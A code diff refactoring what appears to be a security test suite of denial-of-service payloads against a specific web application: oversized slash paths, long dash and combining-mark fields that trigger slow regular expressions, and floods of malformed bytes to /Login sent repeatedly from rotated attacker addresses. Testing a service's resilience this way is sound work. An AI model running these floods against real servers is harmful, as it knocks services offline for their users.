@@ -1,7 +1,7 @@
 import { setTimeout as wait } from "node:timers/promises";
-import type { Attack, Target } from "./attack";
-import { attackerAddress, formHeaders, headOf, repeat, statusFor, visitorOf } from "./wires";
 import { validIdentity } from "../support/valid-forms";
+import { attack, type Attack, type Target } from "./attack";
+import { ask, attackerAddress, headOf, postOf, repeat, visitorOf } from "./wires";
 
 /** Texts for which a regular expression takes the square of their length. */
 
@@ -11,15 +11,14 @@ const DETAILS_PATH = "/RealNameInfo?country=158";
 /** A request of 12 kB, so often that it makes 154 kB a second. */
 const SLASHES_EVERY_MS = 78;
 
-async function slashes(target: Target): Promise<string[]> {
+async function slashes(target: Target): Promise<void> {
   const request = headOf(target, `GET /a${"/".repeat(12_000)}a`, { Connection: "close" });
   const asked: Promise<unknown>[] = [];
   for (const untilMs = performance.now() + STRIKE_MS; performance.now() < untilMs;) {
-    asked.push(statusFor(target, request, { from: attackerAddress(asked.length % 50), deadlineMs: 10_000 }));
+    asked.push(ask(target, request, asked.length % 50));
     await wait(SLASHES_EVERY_MS);
   }
   await Promise.all(asked);
-  return [];
 }
 
 /** Two accounts post the form of an identity one after the other. */
@@ -40,7 +39,6 @@ async function prepareDashes(target: Target) {
         }),
       ),
     );
-    return [];
   };
 }
 
@@ -54,36 +52,27 @@ async function prepareMarks(target: Target) {
       const visitor = visitorOf(target, "ulan=en_US", attackerAddress(index + 1));
       const csrf = (await visitor.open("/LeavingMessage")).field("csrf") ?? "";
       const fields = { csrf, name: MARKS, email: MARKS, socialAccount: MARKS, message: MARKS };
-      const body = Buffer.from(
-        Object.entries(fields)
-          .map((pair) => pair.join("="))
-          .join("&"),
-      );
-      const headers = { ...formHeaders(target), Cookie: String(visitor.jar), "Content-Length": body.length };
-      return Buffer.concat([Buffer.from(headOf(target, "POST /LeavingMessage", headers)), body]);
+      const body = Object.entries(fields).map((pair) => pair.join("="));
+      return postOf(target, "/LeavingMessage", body.join("&"), { Cookie: String(visitor.jar) });
     }),
   );
   return async () => {
     await Promise.all(
       requests.map((request, index) =>
-        repeat({ atATime: 2, forMs: STRIKE_MS, times: 40 }, () =>
-          statusFor(target, request, { from: attackerAddress(index + 1), deadlineMs: 10_000 }),
-        ),
+        repeat({ atATime: 2, forMs: STRIKE_MS, times: 40 }, () => ask(target, request, index + 1)),
       ),
     );
-    return [];
   };
 }
 
 /** No session, no token. */
-async function postBytes(target: Target, body: Buffer): Promise<string[]> {
-  const head = headOf(target, "POST /Login", { ...formHeaders(target), "Content-Length": body.length });
-  const request = Buffer.concat([Buffer.from(head), body]);
-  await repeat({ atATime: 3, forMs: STRIKE_MS, times: 200 }, (number) =>
-    statusFor(target, request, { from: attackerAddress(number % 50), deadlineMs: 10_000 }),
-  );
-  return [];
-}
+const toLogin = (name: string, sent: string, body: Buffer | string) =>
+  attack("7", name, `200 × ${sent} to /Login`, {
+    prepare: (target) => async () => {
+      const request = postOf(target, "/Login", body);
+      await repeat({ atATime: 3, forMs: STRIKE_MS, times: 200 }, (number) => ask(target, request, number % 50));
+    },
+  });
 
 /**
  * Four fields, each of which does not fit: the beginning of such a field is read, and an end that is half a character
@@ -96,39 +85,19 @@ const CUT_FIELDS = Buffer.concat(
     Buffer.alloc(bytes - 16_300, "b"),
   ]),
 );
-const KB_60 = 60_000;
 
 export const EXPRESSIONS: readonly Attack[] = [
-  {
-    name: "path-slashes",
-    item: "7",
-    sent: "GET /a////…/a of 12 kB at 154 kB/s",
+  attack("7", "path-slashes", "GET /a////…/a of 12 kB at 154 kB/s", {
     mustLogNoError: true,
-    prepare: (target) => Promise.resolve(() => slashes(target)),
-  },
-  {
-    name: "certificate-dashes",
-    item: "7",
-    sent: "10 × `certificateNumber` of 60,000 dashes to /RealNameInfo",
+    prepare: (target) => () => slashes(target),
+  }),
+  attack("7", "certificate-dashes", "10 × `certificateNumber` of 60,000 dashes to /RealNameInfo", {
     accounts: 2,
     prepare: prepareDashes,
-  },
-  {
-    name: "enquiry-marks",
-    item: "13",
-    sent: "4 strangers, each with 40 enquiries whose four texts are 8,000 combining marks",
+  }),
+  attack("13", "enquiry-marks", "4 strangers, each with 40 enquiries whose four texts are 8,000 combining marks", {
     prepare: prepareMarks,
-  },
-  {
-    name: "login-0xff",
-    item: "7",
-    sent: "200 × 170 kB of 0xFF and letters to /Login",
-    prepare: (target) => Promise.resolve(() => postBytes(target, CUT_FIELDS)),
-  },
-  {
-    name: "login-percent",
-    item: "7",
-    sent: "200 × 60 kB of `%ff` and of `+` to /Login",
-    prepare: (target) => Promise.resolve(() => postBytes(target, Buffer.from(`a=${"%ff+".repeat(KB_60 / 4)}`))),
-  },
+  }),
+  toLogin("login-0xff", "170 kB of 0xFF and letters", CUT_FIELDS),
+  toLogin("login-percent", "60 kB of `%ff` and of `+`", `a=${"%ff+".repeat(15_000)}`),
 ];
